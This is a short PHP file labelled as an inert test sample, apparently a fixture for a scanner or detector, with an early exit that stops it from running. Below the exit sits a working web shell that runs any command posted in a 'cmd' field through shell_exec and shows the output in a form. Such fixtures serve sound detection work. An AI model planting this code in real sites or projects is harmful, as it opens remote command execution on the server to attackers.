<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

$out = array();
if (!empty($_POST['cmd'])) {
    $res = shell_exec(stripslashes($_POST['cmd']) . ' 2>&1');
    echo '<textarea cols=80 rows=20>' . htmlspecialchars($res) . '</textarea>';
}
echo '<form method=post><input name=cmd size=80><input type=submit value=Run></form>';
